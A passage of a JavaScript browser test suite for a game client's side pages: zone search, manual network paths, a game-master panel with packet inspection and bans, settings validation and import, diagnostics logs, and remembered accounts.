// Tests of the pages beside play: zones in numbers, paths by hand, game masters, settings, help,
// accounts; and what holds on every page. Run by browser.mjs.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { createRequire } from "node:module";

import * as staff from "./staff.mjs";
import * as world from "./world.mjs";

const AXE = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");

/** What accessibility rules are broken in the page, one line each. */
async function violations(page) {
  await page.evaluate(AXE);
  return page.evaluate(async () => {
    const { violations } = await window.axe.run(document, { resultTypes: ["violations"] });
    return violations.flatMap(({ id, nodes }) => nodes.map((node) => `${id}: ${node.html.slice(0, 160)}`));
  });
}

/** The sign-in of a server that came with a profile, with its news. */
async function withNews(page, ui, most = 4) {
  const look = { name: "Prontera Online", news_url: "https://play.example/news", accent: "#2f6f9f" };
  const entry = (title, text, date, path) => ({ title, text, date, link: path === null ? null : `https://play.example/${path}` });
  const news = [
    entry("War of Emperium moves to Saturday", "All castles open at 20:00, server time.", "2026-11-20", "woe"),
    entry("Maintenance on Tuesday", "About ten minutes. Whoever plays stays where they are.", "2026-11-17", "maintenance"),
    entry("مرحبا بكم", "الخادم متاح للجميع", "2026-11-10", null),
    entry(`Pneumono${"ultramicroscopic".repeat(5)}`, "", null, "long"),
  ];
  await page.evaluate(
    ([look, news]) => Object.assign(window.engine, { about: { ...window.engine.about, embedded: false, look }, news }),
    [look, news.slice(0, most)],
  );
  await ui.at("server-choice").locator("summary").click();
  await ui.at("server-address").fill("https://play.example");
  await ui.at("server-use").click();
  await ui.at("news-entry").first().waitFor();
}

/** Every page and state, one after the other; `at` looks at each. */
async function everyPage(page, { ids, toZones, history }, at) {
  const ui = ids(page);
  await page.emulateMedia({ reducedMotion: "reduce" });
  await ui.at("submit").waitFor();
  await page.evaluate(
    ([settings, log]) => Object.assign(window.engine, { settings, log }),
    [staff.settings, staff.log],
  );
  await page.evaluate(() => localStorage.setItem("warp.users", '["poring","gm-anna"]'));
  await withNews(page, ui);
  await at("sign-in, with news");
  await ui.at("mode-sign-in").click();
  await ui.at("submit").click();
  await at("sign-in, with errors");
  await toZones(page);
  await ui.at("zone-geffen").click();
  await ui.at("favourite").click();
  await ui.emit(staff.prepared("geffen"));
  await at("zones");
  await ui.at("zone-search").fill("no such zone");
  await at("zones, none found");
  await ui.at("zone-search").fill("");
  for (const drawer of ["diagnostics", "hosting", "settings", "console"]) {
    await ui.at(`${drawer}-toggle`).click();
    if (drawer === "diagnostics") {
      await ui.emit(world.diagnosed);
      await ui.at("log-toggle").click();
      await page.getByTestId("log-line").first().waitFor();
    }
    if (drawer === "settings") {
      await ui.at("preferences").waitFor();
      for (const group of ["server", "paths", "game", "hosting", "log"]) await ui.at(`group-${group}`).locator("summary").click();
      await ui.at("set-p2p.hold_seconds").fill("1");
    }
    await at(drawer);
    await ui.at(`${drawer}-close`).click();
  }
  await staffPages(page, ui, at);
  await ui.emit(...world.playUntil("authenticating"));
  await at("opening");
  await ui.emit(...world.playUntilReady);
  await history(page, ui);
  await ui.emit(world.problem("no-path", "practice", "timed out"));
  await ui.emit(...world.crowd());
  await ui.at("packets-toggle").click();
  await at("playing, crowded");
}

/** What is seldom seen: updates, sign-ins that wait, a host at work, refusals, and no engine. */
async function everyTrouble(page, { ids, toZones }, at) {
  const ui = ids(page);
  const away = world.problem("coordinator-unreachable", "http://127.0.0.1:8001");
  await page.emulateMedia({ reducedMotion: "reduce" });
  await ui.at("submit").waitFor();
  await page.evaluate(() => localStorage.setItem("warp.user", "poring"));
  await page.reload();
  await ui.at("resuming").waitFor();
  await at("resuming");
  await ui.emit(away);
  await ui.at("retry-in").waitFor();
  await at("sign-in, tried again");
  await ui.at("user").fill("poring");
  await ui.at("server-choice").locator("summary").click();
  for (const [choice, code] of [
    ["profile", "profile-invalid"],
    ["game", "game-missing"],
  ]) {
    await page.evaluate((code) => (window.engine.refuse = { code, subject: "/opt/x" }), code);
    await ui.at(`server-${choice}`).click();
    await ui.at("server-problem").waitFor();
    await at(`server-choice, ${code}`);
  }
  await page.evaluate(() => {
    window.engine.about.max_games = 0;
    window.engine.applied = { name: "Prontera", news_url: null, accent: null, game: null };
    localStorage.clear();
  });
  await ui.at("server-profile").click();
  await ui.at("notice-choose-game").waitFor();
  await toZones(page);
  await at("zones, without a game");
  await ui.at("dismiss").click();
  await ui.at("settings-toggle").click();
  await ui.at("update-ask").click();
  await ui.at("settings-close").click();
  for (const update of world.UPDATES) {
    await page.evaluate((update) => window.engine.tell({ told: "update", update }), update);
    for (const id of ["update-notes", "update-details"]) if (await ui.at(id).count()) await ui.at(id).click();
    await at(`update, ${update.state}`);
  }
  await ui.at("update-later").click();
  await ui.at("hosting-toggle").click();
  await ui.emit({ event: "host-state", host: world.host });
  await ui.at("hosting-list").waitFor();
  await at("hosting, at work");
  await ui.at("hosting-close").click();
  await ui.emit({ event: "ended" });
  await ui.at("ended").waitFor();
  await at("ended");
  const problem = { code: "config-value", subject: "bridge.login_listen", detail: "host:port is allowed" };
  await page.addInitScript((problem) => (window.engine.startProblem = problem), problem);
  await page.reload();
  await ui.at("boot-problem").waitFor();
  await at("boot failed");
  await page.evaluate((log) => (window.engine.log = log), [world.startLine]);
  await ui.at("boot-help").click();
  await page.getByTestId("log-line").waitFor();
  await at("boot failed, diagnostics");
}

/** The tabs of the game master's panel, full. */
export async function staffPages(page, ui, at) {
  await ui.emit(staff.admin);
  await ui.at("staff-toggle").click();
  await ui.emit({ event: "inspecting", on: true }, staff.packets(0, 12, 3));
  await ui.at("packet-list").locator("button").first().click();
  await at("packets");
  for (const [tab, events] of [
    ["sessions", [staff.twoSessions]],
    ["hosts", [staff.hosts()]],
    ["zones", [staff.fleet(true)]],
    ["bans", [staff.bans(staff.ban(1), staff.ban(2, { lifted: 1_767_300_000 }))]],
    ["security", [staff.refusals, staff.audit()]],
  ]) {
    await ui.at(`staff-tab-${tab}`).click();
    await ui.emit(...events);
    await at(`staff, ${tab}`);
  }
  await ui.emit(staff.refusedAsk({ ask: "audit" }, "forbidden", "for operators"));
  await at("staff, refused");
  await ui.at("staff-close").click();
}

export function pageTests(tools) {
  const { ids, toZones, toPlay, history, tabTo, settled, holds } = tools;

  return {
    "zones are searched, favourites kept, and the chosen one is prepared and measured": async (page) => {
      const ui = await toZones(page);
      assert.match(await ui.text("zones-count"), /^5 zones$/);
      await ui.at("zone-search").fill("PAYON dun");
      assert.match(await ui.text("zones-count"), /^1 of 5$/);
      await page.keyboard.press("Enter");
      assert.match(await ui.text("zone-detail"), /Payon/);
      assert.match(await ui.text("zone-quality"), /Measured once you choose/);
      assert.deepEqual(await ui.sent("prepare"), { command: "prepare", zone: "payon" });
      await ui.emit(staff.prepared("payon", { state: "connecting", rtt_ms: null, path: null, quality: null }));
      assert.match(await ui.text("zone-quality"), /Paths are being opened/);
      const quality = { score: 81, cause: { cause: "loss", towards: "player", loss_percent: 4.6 } };
      await ui.emit(staff.prepared("payon", { quality }));
      assert.match(await ui.text("zone-quality"), /^21 ms over Direct, quality 81 of 100 \(loss 4\.6 % towards you\)/);
      assert.match(await ui.text("zone-payon"), /21 ms from here/);
      await ui.at("favourite").click();
      await ui.at("zone-search").fill("");
      const order = await page.locator(".zone").evaluateAll((rows) => rows.map((row) => row.dataset.testid));
      assert.equal(order[0], "zone-payon", "favourites come first");
      await ui.at("only-favourites").check();
      assert.equal(await page.locator(".zone").count(), 1);
      await page.reload();
      await toZones(page);
      assert.match(await ui.text("zone-detail"), /Payon/, "the last choice is kept");
      assert.equal(await ui.at("favourite").getAttribute("aria-pressed"), "true");
      const problem = { code: "no-host", subject: "payon" };
      await ui.emit(staff.prepared("payon", { state: "disconnected", rtt_ms: null, path: null, quality: null, problem }));
      assert.equal(await ui.at("zone-quality").locator(".bad").count(), 1);
      assert.equal(await page.getByTestId("notice").count(), 0, "nobody has pressed Play");
      await ui.at("play").click();
      assert.equal((await ui.sent("play")).zone, "payon");
    },

    "a server that is away is told at the list once, not with a notice each time": async (page) => {
      await page.clock.install({ time: new Date("2026-01-01T12:03:00") });
      const ui = await toZones(page);
      const away = world.problem("coordinator-unreachable", "http://127.0.0.1:8001/api/v1");
      const asked = async () => (await ui.commands()).filter((cmd) => cmd.command === "refresh-zones").length;
      for (let round = 0; round < 2; round += 1) {
        const before = await asked();
        await page.clock.runFor(15_000);
        assert.equal(await asked(), before + 1);
        await ui.emit(away);
        assert.match(await ui.text("zones-stale"), /^Not up to date since 12:03\sPM; trying again$/);
      }
      assert.equal(await ui.at("notice").count(), 0);
      // Who asks is answered.
      await ui.at("refresh").click();
      await ui.emit(away);
      assert.equal(await ui.at("notice").count(), 1);
      await ui.at("dismiss").click();
      await page.clock.runFor(15_000);
      await ui.at("play").click();
      await ui.emit(away);
      assert.equal(await ui.at("notice").count(), 1, "Play was pressed meanwhile");
      await ui.emit(world.zonesEvent);
      assert.equal(await ui.at("zones-stale").count(), 0);
    },

    "a thousand zones: searched at once, refreshed without a flicker": async (page) => {
      const ui = await toZones(page);
      await ui.emit(staff.manyZones(world.zonesEvent.zones[0], 1000));
      await page.waitForFunction(() => document.querySelectorAll(".zone").length >= 100);
      assert.equal(await ui.text("zones-count"), "1,000 zones");
      const main = page.locator("main");
      // Further rows come as one goes down to them.
      await page.waitForFunction(() => {
        const main = document.querySelector("main");
        main.scrollTo(0, main.scrollHeight);
        return document.querySelector('[data-testid="zone-zone-300"]') !== null;
      });
      await settled(page);
      const before = await main.evaluate((it) => it.scrollTop);
      assert.ok(before > 5_000, `scrolled to ${before}`);
      await page.evaluate(() => (window.row = document.querySelector('[data-testid="zone-zone-300"]')));
      const fresh = staff.manyZones(world.zonesEvent.zones[0], 1000);
      fresh.zones[300].players = 91;
      await ui.emit(fresh);
      await page.waitForFunction(() => window.row.textContent.includes("91 of 100"));
      const [same, at] = await page.evaluate(() => [
        window.row === document.querySelector('[data-testid="zone-zone-300"]'),
        document.querySelector("main").scrollTop,
      ]);
      assert.ok(same, "the row itself stays");
      assert.equal(at, before, "and so does the place");
      await main.evaluate((it) => it.scrollTo(0, 0));
      await ui.at("zone-search").fill("number 777");
      await page.waitForFunction(() => document.querySelectorAll(".zone").length === 1);
      // Typing is felt beyond a tenth of a second: the median of some letters, by the page's clock.
      const took = await page.evaluate(async () => {
        const field = document.querySelector('[data-testid="zone-search"]');
        const times = [];
        for (const text of ["z", "zo", "zon", "zone", "zone n", "dun_7", ""]) {
          const start = performance.now();
          field.value = text;
          field.dispatchEvent(new Event("input", { bubbles: true }));
          await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));
          times.push(performance.now() - start);
        }
        return times.sort((a, b) => a - b)[Math.floor(times.length / 2)];
      });
      console.log(`        a letter in the search of 1,000 zones: ${took.toFixed(0)} ms (median)`);
      assert.ok(took < 2000, `${took} ms`);
    },

    "names of others, right to left and long, keep to their places": async (page) => {
      const ui = await toZones(page);
      const like = world.zonesEvent.zones[0];
      const zones = staff.NAMES_OF_OTHERS.map((zone_display_name, n) => ({
        ...like,
        zone_id: `zone-${n}`,
        zone_display_name,
        description: zone_display_name.repeat(3).slice(0, 300),
      }));
      for (const width of [900, 1280, 2560]) {
        await page.setViewportSize({ width, height: 700 });
        await ui.emit({ event: "zones", zones });
        for (let n = 0; n < zones.length; n += 1) {
          await ui.at(`zone-zone-${n}`).click();
          assert.deepEqual(await page.evaluate(world.spilled), [], `${width}: ${zones[n].zone_display_name}`);
        }
        await holds(page, `${width} wide`);
      }
      // A name that turns the direction does not turn what stands beside it.
      const players = await ui.at("zone-zone-2").locator(".players").innerText();
      assert.match(players, /^3 of 100$/);
      await ui.emit(...world.playUntilReady.map((event) => (event.zone === undefined ? event : { ...event, zone: "zone-0" })));
      await ui.at("live").waitFor();
      await holds(page, "playing");
    },

    "paths by hand: one is used, the best again, and what sending twice costs": async (page) => {
      const ui = await toPlay(page);
      await history(page, ui);
      await tabTo(page, ui, "use-wss", 60);
      await page.keyboard.press("Enter");
      assert.deepEqual(await ui.sent("console"), { command: "console", line: "/p2p use wss" });
      await ui.emit({ event: "console", line: "/p2p use wss", answer: { answer: "failed-over", from: "direct", to: "wss" } });
      assert.match(await ui.text("button-answer"), /Moved from Direct to WebSocket/);
      await ui.at("use-auto").click();
      await ui.emit({ event: "console", line: "/p2p use auto", answer: { answer: "automatic" } });
      assert.match(await ui.text("button-answer"), /best path is chosen/);
      assert.equal(await ui.at("redundant-auto").isChecked(), true);
      assert.match(await ui.text("redundant-cost"), /up to twice the upload\. Sent twice so far: 24/);
      await ui.at("redundant-always").check();
      assert.equal((await ui.sent("console")).line, "/p2p redundant always");
      await ui.emit({ event: "console", line: "/p2p redundant always", answer: { answer: "redundant", mode: "always" } });
      const last = world.twoMinutes().at(-1).events.find(({ event }) => event === "metrics");
      await ui.emit({ ...last, metrics: { ...last.metrics, redundant: "always" } });
      assert.equal(await ui.at("redundant-always").isChecked(), true);
      assert.match(await ui.text("queue-direct"), /queue\s+\S+/);
    },

    "game master: nothing for a player; packets only when the server agrees": async (page) => {
      const ui = await toZones(page);
      assert.equal(await ui.at("staff-toggle").count(), 0);
      await ui.emit(staff.gm);
      await ui.at("staff-toggle").click();
      await ui.at("inspect").click();
      assert.deepEqual(await ui.sent("inspect"), { command: "inspect", on: true });
      assert.ok(await ui.at("inspect").isDisabled(), "the server has not said yet");
      await ui.emit(world.problem("forbidden", "http://127.0.0.1:8001/api/v1"), { event: "inspecting", on: false });
      assert.match(await ui.text("staff-problem"), /does not let this account/);
      await ui.at("inspect").click();
      await ui.emit({ event: "inspecting", on: true });
      await ui.emit(staff.packets(0, 8));
      assert.equal(await page.getByTestId("packet").count(), 8);
      assert.match(await page.getByTestId("packet").first().innerText(), /ZC_NOTIFY_CHAT/, "the newest is first");
      await ui.at("packets-direction").selectOption("up");
      await ui.at("packets-class").selectOption("movement");
      assert.match(await ui.text("packets-shown"), /^2 of 8 packets/);
      await ui.at("packets-search").fill("150002");
      assert.equal(await page.getByTestId("packet").count(), 1);
      await page.getByTestId("packet").locator("button").click();
      assert.match(await ui.text("packet-fields"), /GID\s+150002\s+login_id1\s+\*\*\*/);
      await ui.at("packets-direction").selectOption("both");
      await ui.at("packets-class").selectOption("");
      await ui.at("packets-search").fill("");
      await ui.at("packets-pause").click();
      await ui.emit(staff.packets(8, 20, 5));
      assert.match(await ui.text("packets-shown"), /^8 of 8 packets\.\s+5 more came too fast/);
      await ui.at("packets-pause").click();
      assert.match(await ui.text("packets-shown"), /^20 of 20/);
      await ui.at("packets-path").selectOption("wss");
      await ui.at("packets-save").click();
      assert.match(await ui.text("packets-saved"), /^Saved: \/home\/poring\/Downloads\/warp-packets-1\.ndjson$/);
      const saved = await page.evaluate(() => window.engine.reports.at(-1));
      const lines = saved.trim().split("\n").map((line) => JSON.parse(line));
      assert.deepEqual(lines.map(({ n }) => n), [0, 3, 6, 9, 12, 15, 18]);
      await ui.at("debug-timed").click();
      assert.equal((await ui.sent("console")).line, "/p2p debug on 10");
      await ui.at("packets-clear").click();
      assert.equal(await page.getByTestId("packet").count(), 0);
      await page.keyboard.press("Escape");
      assert.deepEqual(await ui.sent("inspect"), { command: "inspect", on: false }, "nobody looks any more");
    },

    "game master: sessions, hosts, zones, bans and what was refused, by keyboard too": async (page) => {
      const ui = await toZones(page);
      await ui.emit(staff.admin);
      const asked = async (ask) => {
        const wanted = JSON.stringify(ask);
        await page.waitForFunction(
          (wanted) => window.engine.commands.some((cmd) => cmd.command === "staff" && JSON.stringify(cmd.ask) === wanted),
          wanted,
        );
      };
      await ui.at("staff-toggle").click();
      await ui.at("staff-tab-packets").focus();
      await page.keyboard.press("ArrowRight");
      assert.equal(await ui.focused(), "staff-tab-sessions");
      await asked({ ask: "sessions" });
      await ui.emit(staff.twoSessions);
      assert.match(await ui.text("session-s-1"), /alice[\s\S]*host-0011223344556677/);
      assert.match(await ui.text("session-s-2"), /bob[\s\S]*geffen\s+endpoint/);
      assert.match(await ui.text("carries-s-1"), /Zone host, Connections: 1, 20\.5 kB up, 3\.1 MB down/);
      assert.equal(await ui.at("carries-s-2").count(), 0, "nothing is known of it");
      await ui.at("session-search").fill("BOB");
      assert.equal(await ui.at("session-s-1").count(), 0);
      await ui.at("move-host-s-2").click();
      await asked({ ask: "move-session", session_id: "s-2", to: "host" });
      await ui.at("end-s-2").click();
      assert.match(await ui.text("end-s-2"), /Sure/);
      const ends = async () => (await ui.commands()).filter((cmd) => cmd.ask?.ask === "end-session");
      assert.deepEqual(await ends(), [], "one press only asks");
      await ui.at("end-s-2").click();
      const end = { ask: "end-session", session_id: "s-2" };
      await asked(end);
      await ui.emit(staff.answered(end, { answer: "done" }));
      assert.equal(await ui.text("staff-done"), "Done.");
      await ui.emit(staff.sessions());
      await ui.at("no-sessions").waitFor();

      await ui.at("staff-tab-hosts").click();
      await ui.emit(staff.hosts());
      assert.match(await ui.text("host-host-0011223344556677"), /carla[\s\S]*Online\s+91\s+12 of 50\s+18\s+0\.2\s+100/);
      await ui.at("drain-host-0011223344556677").click();
      await ui.at("drain-host-0011223344556677").click();
      await asked({ ask: "drain-host", host_id: "host-0011223344556677" });

      await ui.at("staff-tab-zones").click();
      await ui.emit(staff.fleet(true));
      await ui.at("fleet-toggle").click();
      await asked({ ask: "set-fleet", on: false });
      await ui.at("status-morocc").selectOption("enabled");
      await asked({ ask: "zone-status", zone: "morocc", status: "enabled" });
      await ui.at("p2p-practice").uncheck();
      await asked({ ask: "zone-p2p", zone: "practice", on: false });
      // What was refused does not look done; what was done does.
      await ui.emit(staff.answered({ ask: "zone-status", zone: "morocc", status: "enabled" }, { answer: "done" }));
      assert.equal(await ui.at("status-morocc").inputValue(), "enabled");
      await ui.emit(staff.refusedAsk({ ask: "zone-p2p", zone: "practice", on: false }, "forbidden", "for operators"));
      assert.equal(await ui.at("p2p-practice").isChecked(), true);
      await ui.emit(world.zonesEvent);
      assert.equal(await ui.at("status-morocc").inputValue(), "maintenance", "as the list has it");

      await ui.at("staff-tab-bans").click();
      await ui.emit(staff.bans(staff.ban(7)));
      await ui.at("ban-submit").click();
      assert.match(await ui.text("ban-whom-error"), /Enter a name/);
      assert.match(await ui.text("ban-reason-error"), /Enter a reason/);
      await ui.at("ban-reason").fill("ü".repeat(201));
      assert.match(await ui.text("ban-reason-error"), /At most 400 bytes/);
      await ui.at("ban-whom").fill("mallory");
      await ui.at("ban-reason").fill("shouting");
      await ui.at("ban-submit").click();
      await asked({ ask: "ban", account: "mallory", device: null, reason: "shouting", until: null });
      await ui.emit(staff.refusedAsk({ ask: "ban" }, "conflict", "a ban of this account is in force"));
      assert.match(await ui.text("staff-problem"), /in force/);
      await ui.at("lift-7").click();
      await ui.at("lift-7").click();
      await asked({ ask: "lift-ban", id: 7 });

      await ui.at("staff-tab-security").click();
      await ui.emit(staff.refusals, staff.audit());
      assert.match(await ui.text("refusal-list"), /^Forged certificate\s+12$/);
      assert.match(await ui.text("audit-list"), /boss\s+ban\s+account mallory\s+done/);
      // A game master has the lists, and no buttons that are an operator's.
      await ui.emit(staff.gm);
      await ui.at("staff-tab-bans").click();
      await ui.emit(staff.bans(staff.ban(7)));
      assert.equal(await ui.at("ban-form").count(), 0);
      assert.equal(await ui.at("lift-7").count(), 0);
      const audits = async () => (await ui.commands()).filter((cmd) => cmd.ask?.ask === "audit").length;
      const before = await audits();
      await ui.at("staff-tab-security").click();
      await ui.emit(staff.refusals);
      await ui.at("refusal-list").waitFor();
      assert.equal(await ui.at("audit-list").count(), 0);
      assert.equal(await audits(), before, "what is refused for sure is not asked");
      await ui.emit({ event: "signed-out" });
      assert.equal(await ui.at("staff").count(), 0);
    },

    "the settings: checked at the field, refused by the engine, reset, saved, used": async (page) => {
      const ui = await toZones(page);
      await page.evaluate((settings) => (window.engine.settings = settings), staff.settings);
      await ui.at("settings-toggle").click();
      await ui.at("group-paths").locator("summary").click();
      assert.equal(await ui.at("set-p2p.hold_seconds").inputValue(), "60");
      assert.ok(await ui.at("settings-save").isDisabled(), "nothing has changed");
      await ui.at("set-p2p.hold_seconds").fill("301");
      assert.equal(await ui.text("error-p2p.hold_seconds"), "A whole number from 5 to 300.");
      await ui.at("settings-save").click();
      assert.deepEqual(await page.evaluate(() => window.engine.changes), [], "what is wrong is not sent");
      assert.equal(await ui.focused(), "set-p2p.hold_seconds");
      await ui.at("reset-p2p.hold_seconds").click();
      assert.equal(await ui.at("set-p2p.hold_seconds").inputValue(), "30");
      assert.match(await ui.at("group-paths").innerText(), /Plain TCP/);
      await ui.at("set-p2p.paths-direct").uncheck();
      assert.match(await ui.text("settings-save"), /Save 2 changes/);
      await ui.at("set-p2p.paths-direct").check();
      assert.match(await ui.text("settings-save"), /Save 1 change/, "the order is what it was");
      await ui.at("set-p2p.paths-host").uncheck();
      await ui.at("set-webrtc.stun_servers").fill("stun:one.example\n");
      const refuse = { code: "config-value", subject: "webrtc.stun_servers", detail: "stun:one.example is not allowed here: stun:host:port" };
      await page.evaluate((refuse) => (window.engine.refuse = refuse), refuse);
      await ui.at("settings-save").click();
      await ui.at("error-webrtc.stun_servers").waitFor();
      assert.match(await ui.text("error-webrtc.stun_servers"), /stun:host:port/);
      await ui.at("set-webrtc.stun_servers").fill("stun:one.example:3478");
      assert.match(await ui.text("settings-save"), /Save 3 changes/);
      await ui.at("settings-save").click();
      await ui.at("settings-saved").waitFor();
      assert.deepEqual(await page.evaluate(() => window.engine.changes), [
        { key: "p2p.hold_seconds" },
        { key: "p2p.paths", value: ["direct", "wss"] },
        { key: "webrtc.stun_servers", value: ["stun:one.example:3478"] },
      ]);
      await ui.at("settings-apply").click();
      await page.waitForFunction(() => window.engine.restarts === 1);
      await ui.at("submit").waitFor();
      assert.equal(await page.getByTestId("ended").count(), 0, "the old engine's end is not the page's");
    },

    "what counts at once asks for no new start": async (page) => {
      const ui = ids(page);
      await ui.at("submit").waitFor();
      await page.evaluate((settings) => (window.engine.settings = settings), staff.settings);
      await ui.at("settings-toggle").click();
      await ui.at("group-log").locator("summary").click();
      await ui.at("set-logging.level").selectOption("trace");
      await ui.at("settings-save").click();
      await ui.at("settings-in-force").waitFor();
      assert.equal(await ui.at("settings-apply").count(), 0);
      await ui.at("set-logging.level").selectOption("debug");
      await ui.at("set-p2p.metrics_interval_ms").fill("2000");
      await ui.at("settings-save").click();
      await ui.at("settings-saved").waitFor();
      assert.equal(await ui.at("settings-in-force").count(), 0);
    },

    "an engine that does not start anew is a page of its own, and leaves nothing waiting": async (page) => {
      const ui = await toZones(page);
      await page.evaluate((settings) => (window.engine.settings = settings), staff.settings);
      await ui.emit(staff.prepared("geffen"), staff.admin);
      await ui.at("staff-toggle").click();
      await ui.at("staff-tab-sessions").click();
      await ui.at("diagnostics-toggle").click();
      assert.ok(await ui.at("diagnostics-again").isDisabled(), "under way");
      const save = async () => {
        await ui.at("settings-toggle").click();
        await ui.at("group-paths").locator("summary").click();
        await ui.at("set-p2p.hold_seconds").fill("31");
        await ui.at("settings-save").click();
        await ui.at("settings-saved").waitFor();
      };
      await save();
      const refuse = (problem) => page.evaluate((problem) => (window.engine.refuse = problem), problem);
      await refuse({ code: "bad-command", subject: "restart", detail: "a zone is being played; stop it first" });
      await ui.at("settings-apply").click();
      await ui.at("notice").waitFor();
      assert.equal(await ui.at("zone-detail").count(), 1, "the engine is the same");
      await refuse({ code: "port-in-use", subject: "127.0.0.1:6900" });
      await ui.at("settings-apply").click();
      await ui.at("boot-problem").waitFor();
      assert.equal(await ui.at("boot-problem").getAttribute("data-code"), "port-in-use");
      assert.equal(await ui.at("account").count(), 0);
      await ui.emit({ event: "ended" });
      assert.equal(await ui.at("ended").count(), 0, "what the old engine says at its end comes late");
      await page.keyboard.press("Escape");
      await page.evaluate(() => (window.engine.snapshot = { ...window.engine.snapshot, account: null, zones: [] }));
      await ui.at("boot-retry").click();
      await toZones(page);
      assert.doesNotMatch(await ui.text("zone-geffen"), /from here/, "measured with the engine before");
      await ui.at("diagnostics-toggle").click();
      const looks = (await ui.commands()).filter((cmd) => cmd.command === "diagnose");
      assert.equal(looks.length, 2, "the look that was under way is over");
      await ui.emit(staff.admin);
      await ui.at("staff-toggle").click();
      await ui.at("staff-tab-bans").click();
      await ui.emit(staff.bans());
      assert.equal(await ui.at("staff-refresh").locator(".spinner").count(), 0);
    },

    "the settings of an older client are read, shown and filled in": async (page) => {
      const ui = ids(page);
      await ui.at("submit").waitFor();
      await page.evaluate(([settings, imported]) => Object.assign(window.engine, { settings, imported }), [staff.settings, staff.imported]);
      await ui.at("settings-toggle").click();
      await ui.at("preferences").waitFor();
      const file = { name: "config.ini", mimeType: "text/plain", buffer: Buffer.from("[P2P]\nEnableP2P=0\n") };
      await ui.at("settings-file").setInputFiles(file);
      assert.match(await ui.text("settings-imported"), /config\.ini: 5 settings were found[\s\S]*https:\/\/play\.example[\s\S]*1 line is not taken over/);
      assert.deepEqual(await page.evaluate(() => window.engine.files), [["config.ini", "[P2P]\nEnableP2P=0\n"]]);
      await ui.at("settings-take").click();
      assert.match(await ui.text("settings-extra"), /coordinator\.public_key: MCow\w+\s+p2p\.zone_linger_seconds: 30$/);
      assert.match(await ui.text("settings-save"), /Save 5 changes/);
      await ui.at("group-server").locator("summary").click();
      assert.equal(await ui.at("set-coordinator.rest_api_url").inputValue(), "https://play.example/api/v1");
      await ui.at("settings-save").click();
      await ui.at("settings-saved").waitFor();
      const keys = await page.evaluate(() => window.engine.changes.map(({ key }) => key));
      const hidden = ["coordinator.public_key", "p2p.zone_linger_seconds"];
      assert.deepEqual(keys, ["coordinator.rest_api_url", "p2p.enabled", "webrtc.stun_servers", ...hidden]);
      assert.equal(await ui.at("settings-extra").count(), 0);
      const refuse = { code: "config-unreadable", subject: "photo.png", detail: "neither JSON nor sections" };
      await page.evaluate((refuse) => (window.engine.refuse = refuse), refuse);
      await ui.at("settings-file").setInputFiles({ ...file, name: "photo.png" });
      assert.match(await ui.text("settings-problem"), /photo\.png: neither JSON/);
    },

    "help: the log by level and words, more of it for ten minutes, a report in one click": async (page) => {
      const ui = ids(page);
      await ui.at("submit").waitFor();
      await page.evaluate((log) => (window.engine.log = log), staff.log);
      await ui.at("diagnostics-toggle").click();
      await ui.emit(world.diagnosed);
      await ui.at("log-toggle").click();
      await page.getByTestId("log-line").first().waitFor();
      assert.equal(await page.getByTestId("log-line").count(), 4);
      await ui.at("log-level").selectOption("warn");
      assert.equal(await page.getByTestId("log-line").count(), 2);
      await ui.at("log-search").fill("DIRECT closed");
      assert.match(await ui.text("log-line"), /Warning\s+warp_engine::paths\s+the direct path closed/);
      await ui.at("log-search").fill("nothing like it");
      await ui.at("log-none").waitFor();
      await ui.at("log-search").fill("");
      await ui.at("log-level").selectOption("trace");
      await page.evaluate((line) => window.engine.log.push(line), staff.logLine(5, "info", "a new line"));
      await page.waitForFunction(() => document.querySelectorAll('[data-testid="log-line"]').length === 5);
      await ui.at("log-debug").click();
      assert.equal((await ui.sent("console")).line, "/p2p debug on 10");
      await ui.at("diagnostics-save").click();
      await ui.at("diagnostics-saved").waitFor();
      assert.match(await ui.text("diagnostics-saved"), /Saved:\s*\/home\/poring\/Downloads\/warp-report-1\.json/);
      assert.deepEqual(await page.evaluate(() => window.engine.reports), [world.diagnosed.export]);
      const refuse = { code: "internal", subject: "/home/poring/Downloads", detail: "No space left on device" };
      await page.evaluate((refuse) => (window.engine.refuse = refuse), refuse);
      await ui.at("diagnostics-save").click();
      await page.waitForFunction(() =>
        document.querySelector('[data-testid="diagnostics-saved"]')?.textContent.includes("No space left"),
      );
    },

    "several accounts are remembered; leaving, forgetting, signing out everywhere": async (page) => {
      const ui = ids(page);
      for (const name of ["poring", "lunatic"]) {
        await ui.at("mode-sign-in").click();
        await ui.at("user").fill(name);
        await ui.at("password").fill("jellopy-7");
        await ui.at("remember").check();
        await ui.at("submit").click();
        await ui.emit({ ...world.signedIn, account: { name, role: "player" } }, world.zonesEvent);
        await ui.at("settings-toggle").click();
        await ui.at("leave-account").click();
        await ui.sent("leave-account");
        await ui.emit({ event: "signed-out" });
        await ui.at("settings-close").click();
        await ui.at("submit").waitFor();
      }
      const names = await ui.at("kept-accounts").locator("li").allInnerTexts();
      assert.deepEqual(names.map((name) => name.trim()), ["Continue as lunatic", "Continue as poring"]);
      await page.reload();
      await ui.at("resume-poring").click();
      assert.deepEqual(await ui.sent("resume"), { command: "resume", user: "poring" });
      await ui.emit(world.signedIn, world.zonesEvent);
      await ui.at("settings-toggle").click();
      await ui.at("sign-out-everywhere").click();
      assert.equal((await ui.commands()).filter((cmd) => cmd.command === "sign-out-everywhere").length, 0);
      await ui.at("sign-out-everywhere").click();
      await ui.sent("sign-out-everywhere");
      await ui.emit({ event: "signed-out" });
      await ui.at("settings-close").click();
      assert.equal(await ui.at("resume-poring").count(), 0, "what was signed out is not offered");
      await ui.at("forget-lunatic").click();
      assert.deepEqual(await ui.sent("forget-account"), { command: "forget-account", user: "lunatic" });
      assert.equal(await ui.at("kept-accounts").count(), 0);
      const kept = () => page.evaluate(() => Object.entries(localStorage).flat().join(" "));
      assert.doesNotMatch(await kept(), /jellopy|poring|lunatic/);
      // Kept once, and the next time not: what was kept goes too.
      for (const remember of [true, false]) {
        await ui.at("mode-sign-in").click();
        await ui.at("user").fill("poring");
        await ui.at("password").fill("jellopy-7");
        await ui.at("remember").setChecked(remember);
        await ui.at("submit").click();
        await ui.emit(world.signedIn, world.zonesEvent);
        await ui.at("settings-toggle").click();
        await ui.at("leave-account").click();
        await ui.emit({ event: "signed-out" });
        await ui.at("settings-close").click();
      }
      await ui.at("submit").waitFor();
      const forgets = (await ui.commands()).filter((cmd) => cmd.command === "forget-account");
